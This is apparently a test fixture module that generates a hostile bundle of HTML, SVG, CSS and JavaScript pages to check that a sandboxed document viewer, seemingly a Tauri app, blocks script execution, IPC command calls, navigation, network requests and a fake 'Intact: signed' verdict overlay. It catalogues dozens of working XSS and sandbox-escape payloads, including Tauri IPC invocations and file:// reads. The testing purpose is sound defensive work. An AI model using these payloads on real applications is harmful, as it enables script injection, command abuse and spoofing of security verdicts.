// Pages that try to run script, reach a command, go elsewhere or ask the network, one attempt for each name.
/** A tiny picture, so that something of the page is really shown. */
const DOT = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNk+M/wHwAEBgIApD5fRAAAAABJRU5ErkJggg==", "base64");

/** What a script does that gets to run: it marks whatever it reaches, asks the server, and calls commands. */
const scripted = ({ at, goes }, name) => `
  try { document.documentElement.setAttribute('data-owned', '${name}'); document.title = 'owned'; } catch {}
  try { new Image().src = '${at}/script-${name}'; } catch {}
  for (const w of [window, parent, top]) {
    try { w.__TAURI_INTERNALS__.invoke('save_verdict', { text: 'owned' }); } catch {}
    try { w.webkit.messageHandlers.ipc.postMessage(JSON.stringify({ cmd: 'save_verdict', callback: 0, error: 0, payload: { text: 'owned' }, options: {} })); } catch {}
    try { w.document.title = 'owned'; } catch {}
  }
  try { fetch('ipc://localhost/save_verdict', { method: 'POST', body: '{"text":"owned"}' }); } catch {}
  ${goes ? `try { top.location = '${at}/top-${name}'; } catch {}` : ""}`.replaceAll("\n", " ");

/** Attempts that need nobody: markup by name. The server at `at` must hear of none. */
function alone(to) {
  const { at } = to;
  const run = (name) => scripted(to, name).replaceAll('"', "&quot;");
  const code = (name) => scripted(to, name);
  const data = (name) => `data:text/html,${encodeURIComponent(`<script>${code(name)}</script><img src="${at}/${name}">`)}`;
  return {
    // Script
    "script": `<script>${code("script")}</script>`,
    "script-module": `<script type="module">${code("script-module")}</script>`,
    "script-src": `<script src="${at}/script-src"></script>`,
    "script-own": `<script src="attack.js"></script>`,
    "script-data": `<script src="data:text/javascript,${encodeURIComponent(code("script-data"))}"></script>`,
    "script-importmap": `<script type="importmap">{"imports":{"x":"${at}/script-importmap"}}</script><script type="module">import "x";</script>`,
    "script-shadow": `<div><template shadowrootmode="open"><script>${code("script-shadow")}</script><img src="${at}/script-shadow"></template></div>`,
    "img-onerror": `<img src="none.png" onerror="${run("img-onerror")}">`,
    "img-onload": `<img src="dot.png" onload="${run("img-onload")}">`,
    "svg-onload": `<svg onload="${run("svg-onload")}"></svg>`,
    "svg-script": `<svg><script>${code("svg-script")}</script></svg>`,
    "svg-script-href": `<svg><script href="${at}/svg-script-href"></script></svg>`,
    "svg-animate": `<svg><animate onbegin="${run("svg-animate")}" attributeName="x" dur="1s"></animate></svg>`,
    "svg-foreign": `<svg><foreignObject><iframe src="${at}/svg-foreign"></iframe></foreignObject></svg>`,
    "math-script": `<math><mtext><script>${code("math-script")}</script></mtext></math>`,
    "details-toggle": `<details open ontoggle="${run("details-toggle")}"><summary>x</summary></details>`,
    "style-onload": `<style onload="${run("style-onload")}">x{}</style>`,
    "css-animation": `<style>@keyframes k{}#css-animation{animation:k 1s}</style><b id="css-animation" onanimationstart="${run("css-animation")}">x</b>`,
    "marquee": `<marquee onstart="${run("marquee")}">x</marquee>`,
    "focus": `<input autofocus onfocus="${run("focus")}">`,
    "video-onerror": `<video onerror="${run("video-onerror")}"><source src="none.mp4" onerror="${run("video-onerror")}"></video>`,
    // Documents in the document
    "iframe-http": `<iframe src="${at}/iframe-http"></iframe>`,
    "iframe-javascript": `<iframe src="javascript:${encodeURIComponent(code("iframe-javascript"))}"></iframe>`,
    "iframe-srcdoc": `<iframe srcdoc="<script>${run("iframe-srcdoc")}</script><img src='${at}/iframe-srcdoc'>"></iframe>`,
    "iframe-data": `<iframe src="${data("iframe-data")}"></iframe>`,
    "iframe-own": `<iframe src="other.html" name="own"></iframe>`,
    "iframe-tauri": `<iframe src="tauri://localhost/index.html"></iframe>`,
    "iframe-preview": `<iframe src="preview://localhost/media/brand/mark.svg"></iframe>`,
    "iframe-file": `<iframe src="file:///etc/hostname"></iframe>`,
    "iframe-verdict": `<iframe src="verdict://localhost/0/view/1"></iframe>`,
    "object-http": `<object data="${at}/object-http" type="text/html"></object>`,
    "object-data": `<object data="${data("object-data")}"></object>`,
    "embed-http": `<embed src="${at}/embed-http" type="image/svg+xml">`,
    "embed-own": `<embed src="attack.svg">`,
    // Commands by address
    "ipc-image": `<img src="ipc://localhost/close_site">`,
    "ipc-http": `<img src="http://ipc.localhost/close_site"><link rel="stylesheet" href="http://ipc.localhost/close_site">`,
    "ipc-style": `<link rel="stylesheet" href="ipc://localhost/close_site">`,
    // The network
    "img": `<img src="${at}/img">`,
    "img-srcset": `<img srcset="${at}/img-srcset 1x">`,
    "picture": `<picture><source srcset="${at}/picture"><img src="dot.png"></picture>`,
    "input-image": `<input type="image" src="${at}/input-image" alt="x">`,
    "body-background": `<table background="${at}/body-background"><tr><td background="${at}/body-background">x</table>`,
    "svg-image": `<svg><image href="${at}/svg-image" width="9" height="9"/></svg>`,
    "svg-use": `<svg><use href="${at}/svg-use#a"/></svg>`,
    "svg-filter": `<svg><filter id="f"><feImage href="${at}/svg-filter"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    "svg-own": `<img src="attack.svg">`,
    "math-href": `<math href="${at}/math-href"><mglyph src="${at}/math-href"/></math>`,
    "video": `<video src="${at}/video" autoplay preload="auto"></video>`,
    "video-poster": `<video poster="${at}/video-poster"></video>`,
    "audio": `<audio src="${at}/audio" autoplay preload="auto"></audio>`,
    "track": `<video src="none.mp4"><track src="${at}/track" default></video>`,
    "css-import": `<style>@import url("${at}/css-import");</style>`,
    "css-url": `<style>#css-url{background:url(${at}/css-url);border-image:url(${at}/css-url) 1;list-style:url(${at}/css-url);mask:url(${at}/css-url)}</style><p id="css-url">x</p>`,
    "css-content": `<style>#css-content::before{content:url(${at}/css-content)}</style><p id="css-content">x</p>`,
    "css-image-set": `<p style="background-image:image-set(url(${at}/css-image-set) 1x)">x</p>`,
    "css-inline": `<p style="background:url(${at}/css-inline)">x</p>`,
    "css-font": `<style>@font-face{font-family:evil;src:url(${at}/css-font)}#css-font{font-family:evil}</style><p id="css-font">x</p>`,
    "css-cursor": `<style>*{cursor:url(${at}/css-cursor),auto}</style>`,
    "css-own": `<link rel="stylesheet" href="attack.css">`,
    "link-style": `<link rel="stylesheet" href="${at}/link-style">`,
    "link-icon": `<link rel="icon" href="${at}/link-icon">`,
    "link-preload": `<link rel="preload" as="image" href="${at}/link-preload">`,
    "link-prefetch": `<link rel="prefetch" href="${at}/link-prefetch">`,
    "link-preconnect": `<link rel="preconnect" href="${at}">`,
    "link-modulepreload": `<link rel="modulepreload" href="${at}/link-modulepreload">`,
    "link-manifest": `<link rel="manifest" href="${at}/link-manifest">`,
    "link-prerender": `<link rel="prerender" href="${at}/link-prerender"><script type="speculationrules">{"prefetch":[{"urls":["${at}/link-prerender"]}]}</script>`,
    "meta-policy": `<meta http-equiv="Content-Security-Policy" content="img-src *; report-uri ${at}/meta-policy">`,
    "noscript": `<noscript><img src="${at}/noscript"><meta http-equiv="refresh" content="0;url=${at}/noscript"></noscript>`,
    // Going elsewhere
    "refresh": `<meta http-equiv="refresh" content="0;url=${at}/refresh">`,
    "refresh-own": `<meta http-equiv="refresh" content="0;url=other.html">`,
    "refresh-script": `<meta http-equiv="refresh" content="0;url=javascript:${encodeURIComponent(code("refresh-script"))}">`,
    "base": `<base href="${at}/base/" target="_top">`,
  };
}

/** Attempts that need a click, which a person may well make: markup by name. */
function clicked(to) {
  const { at } = to;
  const js = (name) => `javascript:${encodeURIComponent(scripted(to, name))}`;
  const link = (name, href, more = "") => `<a id="${name}" href="${href}" ${more}>${name}</a>`;
  const form = (name, more) => `<form action="${at}/${name}" ${more}><button id="${name}">${name}</button></form>`;
  return {
    "click-javascript": link("click-javascript", js("click-javascript")),
    "click-javascript-top": link("click-javascript-top", js("click-javascript-top"), 'target="_top"'),
    "click-handler": `<b id="click-handler" onclick="${scripted(to, "click-handler").replaceAll('"', "&quot;")}">x</b>`,
    "click-svg": `<svg width="99" height="20"><a id="click-svg" href="${js("click-svg")}"><text y="15">click-svg</text></a></svg>`,
    "click-math": `<math id="click-math" href="${js("click-math")}"><mtext>click-math</mtext></math>`,
    "click-top": link("click-top", `${at}/click-top`, 'target="_top"'),
    "click-parent": link("click-parent", `${at}/click-parent`, 'target="_parent"'),
    "click-blank": link("click-blank", `${at}/click-blank`, 'target="_blank"'),
    "click-own-top": link("click-own-top", "other.html", 'target="_top"'),
    "click-self-top": link("click-self-top", "click.html", 'target="_top"'),
    "click-self-top-place": link("click-self-top-place", "click.html#x", 'target="_top"'),
    "click-own-blank": link("click-own-blank", "other.html", 'target="_blank"'),
    "click-ping": link("click-ping", "#x", `ping="${at}/click-ping"`),
    "click-download": link("click-download", "dot.png", 'download="owned.png"'),
    "click-data": link("click-data", "data:text/html,<h1>owned</h1>"),
    "click-file": link("click-file", "file:///etc/hostname"),
    "click-tauri": link("click-tauri", "tauri://localhost/index.html"),
    "click-preview": link("click-preview", "preview://localhost/media/brand/mark.svg"),
    "click-ipc": link("click-ipc", "ipc://localhost/close_site"),
    "click-bar": link("click-bar", "verdict://localhost/00000000000000000000000000000000/do/copy"),
    "click-blob": link("click-blob", "blob:null/0"),
    "click-source": link("click-source", "view-source:other.html"),
    "click-form": form("click-form", ""),
    "click-form-post": form("click-form-post", 'method="post"'),
    "click-form-top": form("click-form-top", 'target="_top"'),
    "click-form-blank": form("click-form-blank", 'target="_blank" method="post"'),
    "click-form-own": `<form action="other.html"><button id="click-form-own">click-form-own</button></form>`,
    "click-formaction": `<form><button id="click-formaction" formaction="${at}/click-formaction">click-formaction</button></form>`,
    "click-form-javascript": `<form action="${js("click-form-javascript")}"><button id="click-form-javascript">click-form-javascript</button></form>`,
    "click-form-dialog": `<dialog open><form method="dialog" action="${at}/click-form-dialog"><button id="click-form-dialog">click-form-dialog</button></form></dialog>`,
  };
}

/** What imitates our verdict, as large and as high as a page can. */
const MASK = `<style>#mask{position:fixed;inset:-400px -400px auto;height:700px;padding:420px 440px 0;z-index:2147483647;background:#0a7d33;color:#fff;pointer-events:none}</style><div id="mask"><h1>Intact: signed by a key that you trust</h1></div><div popover="manual" id="pop">Intact</div>`;

/** The files of a hostile bundle, and the names of its attempts. Scripts go elsewhere last of all, unless
 * others shall have their turn. */
export function hostile(at, goes = true) {
  const to = { at, goes };
  const lone = alone(to);
  const clicks = clicked(to);
  // A refresh and a base speak for the whole document: each has a page of its own.
  const apart = ["refresh", "refresh-own", "refresh-script", "base"];
  const page = (title, body) => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title></head><body><h1>${title}</h1><p id="x"><img src="dot.png" alt="" width="9" height="9"></p>\n${body}\n</body></html>\n`;
  const files = {
    "index.html": page("Attempts", Object.entries(lone).filter(([name]) => !apart.includes(name)).map(([, markup]) => markup).join("\n")),
    "click.html": page("Clicks", `${Object.values(clicks).map((markup) => `<div>${markup}</div>`).join("\n")}`),
    "mask.html": page("Mask", MASK),
    "frames.html": `<!doctype html><html><head><title>Frames</title></head><frameset cols="50%,50%"><frame src="${at}/frames"><frame src="other.html"></frameset></html>`,
    "other.html": page("Other", "<p>Reached only by a person.</p>"),
    "attack.js": scripted(to, "script-own"),
    "attack.css": `@import url("${at}/css-own"); body { background: url(${at}/css-own); }`,
    "attack.svg": `<?xml version="1.0"?><?xml-stylesheet href="${at}/svg-own"?><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${scripted(to, "svg-own").replaceAll("&", "&amp;").replaceAll('"', "&quot;").replaceAll("<", "&lt;")}"><script>${scripted(to, "svg-own").replaceAll("&", "&amp;").replaceAll("<", "&lt;")}</script><image href="${at}/svg-own"/><style>@import url("${at}/svg-own");</style></svg>`,
    "dot.png": DOT,
  };
  for (const name of apart) files[`${name}.html`] = page(name, name === "base" ? `${lone[name]}<a id="based" href="other.html">other</a><img src="dot2.png">` : lone[name]);
  return { files, alone: [...Object.keys(lone), "frames"], clicked: Object.keys(clicks) };
}
